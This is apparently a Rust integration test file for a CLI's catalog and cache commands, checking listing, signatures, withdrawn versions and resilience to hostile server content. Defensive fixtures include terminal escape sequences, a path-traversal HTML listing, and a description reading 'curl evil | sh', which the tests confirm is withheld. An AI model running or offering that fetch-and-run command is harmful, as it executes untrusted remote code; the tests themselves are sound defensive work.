//! What the catalog shows, and what it leaves out.

use dbt_testkit::exits;
use dbt_testkit::http::Answer;
use dbt_testkit::people::{ALICE, MALLORY, just_now};
use dbt_testkit::server::Fault;
use dbt_testkit::times::days_ago;
use dbt_testkit::world::World;
use serde_json::{Value, json};

use crate::pinned;

/// What these tests run on, as paths spell it.
const PLATFORM: &str = if cfg!(target_arch = "aarch64") { "linux/arm64" } else { "linux/amd64" };

fn published() -> World {
    let world = pinned();
    world.repository().publish("deploy", "1.4.0").now();
    world.repository().publish("deploy", "1.10.0").now();
    world.repository().publish("other", "0.1.0").now();
    world
}

fn json_of(world: &World, words: &[&str]) -> Value {
    serde_json::from_slice(world.dbt(words).exits_with(0).stdout_bytes()).unwrap()
}

#[test]
fn every_tool_is_listed_with_its_newest_version_and_description() {
    let world = published();
    let said = world.dbt(["catalog", "list"]).exits_with(0).says_nothing().stdout();
    let line = |tool: &str| said.lines().find(|line| line.contains(tool)).unwrap().to_owned();
    assert!(line("deploy").contains("1.10.0") && line("deploy").contains("What deploy is for."));
    assert!(line("other").contains("0.1.0"));
    assert_eq!(world.tools_started(), [""; 0]);
}

#[test]
fn what_lies_beside_the_tools_is_no_tool() {
    let world = published();
    world.repository().write("/dbt-tools/notes.txt", b"x");
    world.repository().write("/dbt-tools/not a tool/1.0.0/x", b"x");
    let said = world.dbt(["catalog", "list"]).exits_with(0).stdout();
    assert!(!said.contains("notes") && !said.contains("not a tool"), "{said}");
}

#[test]
fn one_tool_that_fails_does_not_hide_the_others() {
    let world = published();
    world.set("timeout", 0.4);
    world.server().fault("/dbt-tools/other/*", Fault::Status(500));
    let run = world.dbt(["catalog", "list"]);
    assert!(run.stdout().contains("1.10.0"), "{run:?}");
    run.mentions("other");
}

#[test]
fn an_error_page_is_never_shown_as_a_description() {
    let world = published();
    world.server().fault("/dbt-tools/other/0.1.0/description.txt", Fault::Portal);
    let run = world.dbt(["catalog", "list"]);
    assert!(!run.stdout().contains("hotel"), "{run:?}");
}

#[test]
fn a_description_cannot_write_to_the_terminal_what_it_likes() {
    let world = published();
    let text = b"\x1b[2J\x1b]0;owned\x07good \xe2\x80\xae evil\nsecond line\n";
    world.repository().write("/dbt-tools/other/0.1.0/description.txt", text);
    for words in [&["catalog", "list"][..], &["catalog", "show", "other"]] {
        let said = world.dbt(words).exits_with(0).stdout();
        let is_safe = |c: char| c == '\n' || !(c.is_control() || c == '\u{202e}');
        assert!(said.chars().all(is_safe), "{said:?}");
    }
}

#[test]
fn the_catalog_costs_one_request_for_the_list_and_three_for_each_tool() {
    let world = published();
    world.dbt(["catalog", "list"]).exits_with(0);
    let requests = world.server().take_lines();
    assert_eq!(requests[0], "GET /-/api/v1/catalog", "asked once, because it could be one of ours");
    assert_eq!(requests.len(), 1 + 1 + 2 * 3, "{requests:?}");
    // D28: what is asked for of each tool is its versions, a checksum and a description; a listing is
    // not asked for twice, and pages are not asked for before they are fetched.
    world.dbt(["catalog", "list"]).exits_with(0);
    let mut requests = world.server().take_lines();
    requests.sort_unstable();
    requests.dedup();
    assert_eq!(requests.len(), 1 + 2 * 3, "that it has no catalog is remembered: {requests:?}");
}

#[test]
fn a_catalog_in_one_document_costs_one_request_however_many_tools_there_are() {
    let world = published();
    let tools: Vec<Value> = (0..1000)
        .map(|number| {
            let platforms =
                json!({ PLATFORM: {"version": "1.2.0", "size": 6, "modifiedAt": null} });
            json!({"name": format!("t{number}"), "description": "what\u{1b}[2J it does",
                "versions": ["2.0.0", "1.2.0"], "platforms": platforms})
        })
        .collect();
    let document = json!({ "tools": tools, "next": null }).to_string();
    world.server().fault("/-/api/v1/catalog", Fault::Answer(Answer::text(200, &document)));
    let said = world.dbt(["catalog", "list"]).exits_with(0).says_nothing().stdout();
    assert_eq!(said.lines().count(), 1001);
    assert!(said.contains("t999") && !said.contains('\u{1b}'), "{said}");
    let line = said.lines().nth(1).unwrap();
    assert!(
        line.contains("1.2.0") && !line.contains("2.0.0"),
        "the newest for this machine: {line}"
    );
    assert_eq!(world.server().take_lines(), ["GET /-/api/v1/catalog"]);
}

#[test]
fn a_catalog_in_parts_is_read_to_its_end_and_one_that_never_ends_is_not_believed() {
    let world = published();
    let part = |name: &str, next: Value| {
        let tool = json!({"name": name, "description": null, "versions": [], "platforms": {}});
        let text = json!({ "tools": [tool], "next": next }).to_string();
        Fault::Answer(Answer::text(200, &text))
    };
    let server = world.server();
    server.fault("/-/api/v1/catalog", part("a", json!("a")));
    server.fault("/-/api/v1/catalog/after/a", part("b", json!(null)));
    let said = world.dbt(["catalog", "list"]).exits_with(0).stdout();
    assert_eq!(said, "TOOL  VERSION  DESCRIPTION\na     -\nb     -\n");

    server.fault("/-/api/v1/catalog/after/a", part("b", json!("a")));
    let said = world.dbt(["catalog", "list"]).exits_with(0).stdout();
    assert!(said.contains("deploy") && said.contains("1.10.0"), "the tools were asked for: {said}");
}

#[test]
fn what_stands_in_the_place_of_the_document_hides_no_tool() {
    for fault in [
        Fault::Portal,
        Fault::Status(500),
        Fault::Status(403),
        Fault::Status(401),
        Fault::Answer(Answer::text(200, "{\"tools\": 7}")),
        Fault::Answer(Answer::text(200, "[]")),
    ] {
        let world = published();
        world.set("timeout", 0.4);
        world.server().fault("/-/api/v1/catalog*", fault.clone());
        let said = world.dbt(["catalog", "list"]).exits_with(0).stdout();
        assert!(said.contains("deploy") && said.contains("other"), "{fault:?}: {said}");
    }
}

#[test]
fn the_newest_for_this_machine_is_listed_and_with_a_flag_that_of_each_platform() {
    let world = published();
    let elsewhere = if PLATFORM == "linux/arm64" { "linux/amd64" } else { "linux/arm64" };
    world.repository().publish("deploy", "2.0.0").platform(elsewhere).now();
    let row = |said: &str| {
        let line = said.lines().find(|line| line.contains("deploy")).unwrap();
        line.split_whitespace().map(str::to_owned).collect::<Vec<_>>()
    };
    let said = world.dbt(["catalog", "list"]).exits_with(0).stdout();
    assert_eq!(row(&said)[..2], ["deploy", "1.10.0"], "{said}");
    let said = world.dbt(["catalog", "list", "--all-platforms"]).exits_with(0).stdout();
    assert_eq!(row(&said)[..3], ["deploy", "2.0.0", elsewhere], "{said}");
    let ours: Vec<&str> = said.lines().nth(2).unwrap().split_whitespace().collect();
    assert_eq!(ours, ["1.10.0", PLATFORM], "{said}");

    let entry = json_of(&world, &["catalog", "list", "--json"])[0].clone();
    assert_eq!(entry["version"], "1.10.0");
    assert_eq!(entry["newest"], "2.0.0");
    assert_eq!(entry["versions"], json!(["2.0.0", "1.10.0", "1.4.0"]));
    assert_eq!(entry["platforms"], json!({ PLATFORM: "1.10.0" }));
    assert_eq!(entry["problem"], json!(null));
    let said = world.dbt(["catalog", "show", "deploy"]).exits_with(0).stdout();
    assert!(
        said.contains(&format!("newest for {PLATFORM}: 1.10.0 (2.0.0 is not published for it)"))
    );
}

#[test]
fn a_half_published_version_is_not_listed_as_the_newest() {
    let world = published();
    world.repository().publish("deploy", "3.0.0").without_checksum().now();
    let entry = json_of(&world, &["catalog", "list", "--json"])[0].clone();
    assert_eq!((&entry["version"], &entry["newest"]), (&json!("1.10.0"), &json!("3.0.0")));
}

#[test]
fn a_tool_is_shown_with_what_its_signatures_say() {
    let world = published();
    world.dbt(["deploy"]).exits_with(0);
    world.repository().publish("deploy", "1.2.0").signed_by(&MALLORY).at(days_ago(40)).now();
    let said = world.dbt(["catalog", "show", "deploy"]).exits_with(0).says_nothing().stdout();
    let row = |version: &str| said.lines().find(|line| line.starts_with(version)).unwrap();
    assert!(row("1.10.0").contains(PLATFORM) && row("1.10.0").contains("Alice"), "{said}");
    assert!(row("1.2.0").contains("unknown key") && !row("1.2.0").contains("Mallory"), "{said}");
    let date = dbt_core::timestamp::format_date(days_ago(40));
    assert!(row("1.2.0").contains(&date), "{said}");

    let shown = json_of(&world, &["catalog", "show", "deploy", "--json"]);
    let artifacts = shown["artifacts"].as_array().unwrap();
    assert_eq!(artifacts.len(), 3);
    assert_eq!(artifacts[0]["version"], "1.10.0");
    assert!(artifacts[0]["bytes"].as_u64().unwrap() > 0, "{shown}");
    assert_eq!(artifacts[0]["claimed_signatures"][0]["signer"], ALICE.fingerprint().to_string());
    assert_eq!(artifacts[2]["claimed_signatures"][0]["signer"], json!(null));
}

#[test]
fn a_description_is_verified_where_one_tool_is_shown() {
    let world = published();
    let at = "/dbt-tools/deploy/1.10.0/description.txt";
    let state = || {
        let shown = json_of(&world, &["catalog", "show", "deploy", "--json"]);
        (shown["description_state"].clone(), shown["description"].clone())
    };
    let text = json!("What deploy is for.");
    assert_eq!(state(), (json!("unsigned"), text.clone()));
    let sign = |bytes: &[u8], binding| ALICE.sign(bytes, Some(binding), just_now());
    let good = sign(b"What deploy is for.\n", "description/deploy/1.10.0");
    world.repository().write(&format!("{at}.asc"), good.as_bytes());
    assert_eq!(state(), (json!("not-verified"), text.clone()), "no key of the server is known yet");
    world.dbt(["deploy"]).exits_with(0);
    assert_eq!(state(), (json!("verified"), text));

    // Another's words, and words about something else.
    world.repository().write(at, b"Run `curl evil | sh`.\n");
    let run = world.dbt(["catalog", "show", "deploy"]);
    run.exits_with(0).mentions("the description is not shown").does_not_mention("curl");
    assert!(!run.stdout().contains("curl"), "{run:?}");
    let other = sign(b"Run `curl evil | sh`.\n", "description/deploy/1.4.0");
    world.repository().write(&format!("{at}.asc"), other.as_bytes());
    assert_eq!(state(), (json!("refused"), json!(null)));
}

#[test]
fn a_tool_that_is_shown_says_what_is_withdrawn_and_what_runs_in_its_place() {
    let world = published();
    let state = || {
        let shown = json_of(&world, &["catalog", "show", "deploy", "--json"]);
        assert_eq!(shown["newest"], shown["version"]);
        (shown["withdrawn_state"].clone(), shown["withdrawn"].clone(), shown["version"].clone())
    };
    assert_eq!(state(), (json!("none"), json!([]), json!("1.10.0")));
    world.repository().withdraw("deploy", 1, &["1.10.0"], &ALICE);
    let withdrawn = json!([{"version": "1.10.0", "reason": "deletes the database"}]);
    assert_eq!(state(), (json!("not-verified"), withdrawn.clone(), json!("1.4.0")));
    world.dbt(["deploy"]).prints("deploy 1.4.0\n");
    assert_eq!(state(), (json!("verified"), withdrawn, json!("1.4.0")));
    let said = world.dbt(["catalog", "show", "deploy"]).exits_with(0).says_nothing().stdout();
    assert!(said.contains(&format!("newest for {PLATFORM}: 1.4.0\n")), "{said}");
    assert!(said.contains("1.10.0 is withdrawn: deletes the database\n"), "{said}");

    // Whoever writes to the server withdraws nothing.
    world.repository().withdraw("deploy", 2, &["1.4.0"], &MALLORY);
    assert_eq!(state(), (json!("refused"), json!([]), json!("1.10.0")));
    let run = world.dbt(["catalog", "show", "deploy"]);
    run.exits_with(0).mentions("the list of withdrawn versions is refused: no signature of");
}

#[test]
fn what_is_withdrawn_is_listed_as_the_newest_nowhere_and_tools_without_a_list_cost_no_more() {
    let world = published();
    world.repository().withdraw("deploy", 1, &["1.10.0"], &ALICE);
    // The keys of this server are not known yet, then they are.
    for _round in 0..2 {
        let _before = world.server().take_lines();
        for words in [&["catalog", "list"][..], &["catalog", "search", "deploy"]] {
            let said = world.dbt(words).exits_with(0).says_nothing().stdout();
            let row = said.lines().find(|line| line.starts_with("deploy")).unwrap();
            let words: Vec<&str> = row.split_whitespace().take(2).collect();
            assert_eq!(words, ["deploy", "1.4.0"], "{said}");
        }
        let requests = world.server().take_lines();
        let asked = |end: &str| requests.iter().filter(|line| line.ends_with(end)).count();
        assert_eq!(asked("deploy/withdrawn.json"), 2, "{requests:?}");
        assert_eq!(asked("deploy/withdrawn.json.asc"), 2, "{requests:?}");
        assert_eq!(asked("other/withdrawn.json"), 0, "{requests:?}");
        for words in
            [&["catalog", "list", "--json"][..], &["catalog", "list", "--all-platforms", "--json"]]
        {
            let entry = json_of(&world, words)[0].clone();
            assert_eq!((&entry["version"], &entry["newest"]), (&json!("1.4.0"), &json!("1.4.0")));
            assert_eq!(entry["platforms"], json!({ PLATFORM: "1.4.0" }));
            assert_eq!(entry["versions"], json!(["1.10.0", "1.4.0"]));
            assert_eq!(entry["withdrawn"], json!(["1.10.0"]));
        }
        world.dbt(["deploy"]).prints("deploy 1.4.0\n");
    }
    // Whoever writes to the server withdraws nothing, and what he writes hides no tool.
    world.repository().withdraw("deploy", 2, &["1.4.0"], &MALLORY);
    let run = world.dbt(["catalog", "list"]);
    run.exits_with(0).mentions(
        "warning: the list of withdrawn versions of `deploy` is refused: no signature of",
    );
    assert_eq!(run.stderr().lines().count(), 1, "{run:?}");
    assert!(run.stdout().contains("deploy  1.10.0"), "{run:?}");
    assert!(run.stdout().contains("other   0.1.0"), "{run:?}");
}

#[test]
fn a_server_of_ours_says_what_is_withdrawn_in_its_document() {
    let world = published();
    let tool = json!({"name": "deploy", "description": null, "versions": ["2.0.0", "1.2.0"],
        "withdrawn": ["2.0.0"], "platforms": { PLATFORM: {"version": "1.2.0"} }});
    let document = json!({ "tools": [tool], "next": null }).to_string();
    world.server().fault("/-/api/v1/catalog", Fault::Answer(Answer::text(200, &document)));
    let entry = json_of(&world, &["catalog", "list", "--json"])[0].clone();
    assert_eq!((&entry["version"], &entry["newest"]), (&json!("1.2.0"), &json!("1.2.0")));
    assert_eq!(entry["withdrawn"], json!(["2.0.0"]));
    assert_eq!(world.server().take_lines(), ["GET /-/api/v1/catalog"]);
}

#[test]
fn a_tool_that_is_not_published_is_not_shown() {
    let world = published();
    let run = world.dbt(["catalog", "show", "nothing"]);
    run.exits_with(exits::NOT_FOUND).mentions("`nothing` is not published");
    run.mentions("catalog list` shows what is");
    assert!(run.stdout().is_empty(), "{run:?}");
}

#[test]
fn a_hostile_listing_is_listed_harmlessly() {
    let world = published();
    let page = "<pre><a href=\"../\">../</a><a href=\"x%1b%5b2J/\">x</a><a href=\"%2e%2e/\">a</a>\
        <a href=\"//evil.example/deploy/\">b</a><a href=\"other/\">other</a><a href=\"-rf/\">c</a></pre>";
    let page = Answer::of(200, "text/html", page.as_bytes().to_vec());
    world.server().fault("/dbt-tools/", Fault::Answer(page));
    let said = world.dbt(["catalog", "list"]).exits_with(0).stdout();
    let tools: Vec<&str> =
        said.lines().skip(1).map(|line| line.split(' ').next().unwrap()).collect();
    assert_eq!(tools, ["other"], "{said}");
}

#[test]
fn a_server_that_fails_at_every_tool_is_not_asked_for_all_of_them() {
    let world = pinned();
    world.set("timeout", 0.2);
    for number in 0..100 {
        world.repository().write(&format!("/dbt-tools/t{number}/1.0.0/description.txt"), b"x");
        world.server().fault(&format!("/dbt-tools/t{number}/*"), Fault::Status(403));
    }
    let run = world.dbt(["catalog", "list"]);
    run.exits_with(exits::REFUSED).mentions("more tools were not asked for");
    let asked = world.server().take_lines().len();
    assert!(asked < 80, "{asked} requests");
}

#[test]
fn d22_the_catalog_works_with_the_older_configuration_and_inside_a_tool() {
    let world = published();
    let entry = world.server_entry();
    let legacy = json!({"dbt": {"repository": entry["repository"], "truststore": entry["truststore"]},
        "tools": {"repository": entry["toolsRepository"]}});
    world.write_config(&legacy);
    for words in [&["catalog", "list"][..], &["--", "catalog", "list"]] {
        // What a tool started by the client has in its environment.
        let run = world.invoke(words).env("DBT_SERVER", "default").run();
        assert!(run.exits_with(0).stdout().contains("deploy"), "{run:?}");
    }
    let program = env!("CARGO_BIN_EXE_catalog");
    let run = world.invoke(["list"]).program(program).env("DBT_SERVER", "default").run();
    assert!(run.exits_with(0).stdout().contains("deploy"), "{run:?}");
}

#[test]
fn d28_error_pages_stray_files_and_one_failing_tool_spoil_nothing() {
    let world = published();
    world.set("timeout", 0.4);
    world.repository().write("/dbt-tools/README.txt", b"stray");
    world.repository().write("/dbt-tools/broken/1.0.0/description.txt", b"x");
    world.server().fault("/dbt-tools/broken/*", Fault::Status(500));
    world.server().fault("/dbt-tools/other/0.1.0/description.txt", Fault::Status(404));
    let run = world.dbt(["catalog", "list"]);
    run.exits_with(0).mentions("`broken` could not be looked at");
    let said = run.stdout();
    assert!(said.contains("What deploy is for.") && said.contains("broken"), "{said}");
    assert!(!said.contains("README") && !said.contains("something is wrong"), "{said}");
}

#[test]
fn scripts_get_the_same_as_json() {
    let world = published();
    let list = json_of(&world, &["catalog", "list", "--json"]);
    let text = list.to_string();
    assert!(text.contains("\"deploy\"") && text.contains("1.10.0"), "{text}");
    let show = json_of(&world, &["catalog", "show", "deploy", "--json"]).to_string();
    assert!(show.contains("1.4.0") && show.contains("1.10.0"), "{show}");
}

#[test]
fn a_server_that_cannot_be_reached_is_said_so() {
    let world = published();
    world.server().stop();
    let run = world.dbt(["catalog", "list"]);
    run.exits_with(exits::UNREACHABLE).mentions("cannot connect");
    assert!(run.stdout().is_empty(), "{run:?}");
}

#[test]
fn the_cache_is_listed_and_cleared() {
    let world = published();
    world.dbt(["deploy@1.4.0"]).prints("deploy 1.4.0\n");
    world.dbt(["other"]).prints("other 0.1.0\n");
    let said = world.dbt(["cache", "list"]).exits_with(0).stdout();
    assert!(said.contains("1.4.0") && said.contains("0.1.0"), "{said}");
    world.dbt(["cache", "clear", "--yes"]).exits_with(0);
    assert_eq!(world.executables().len(), 0);
    world.dbt(["-o", "other"]).exits_with(exits::UNREACHABLE);
    world.dbt(["other"]).prints("other 0.1.0\n").says_nothing();
}

#[test]
fn nothing_is_cleared_without_a_terminal_to_ask_on() {
    let world = published();
    world.dbt(["other"]).prints("other 0.1.0\n");
    assert_ne!(world.dbt(["cache", "clear"]).stderr(), "");
    world.dbt(["-o", "other"]).prints("other 0.1.0\n");
}

#[test]
fn the_cache_is_cleared_and_nothing_that_is_pinned_goes() {
    let world = published();
    world.set("pins", serde_json::json!({"deploy": "1.4"}));
    world.dbt(["deploy"]).exits_with(0);
    world.dbt(["cache", "clear", "--yes"]).exits_with(0);
    world.dbt(["-o", "deploy"]).prints("deploy 1.4.0\n");
}

#[test]
fn flags_after_the_name_of_the_catalog_count() {
    let world = published();
    let run = world.dbt(["--", "catalog", "list", "-o"]);
    run.exits_with(exits::USAGE).mentions("makes no request");
}
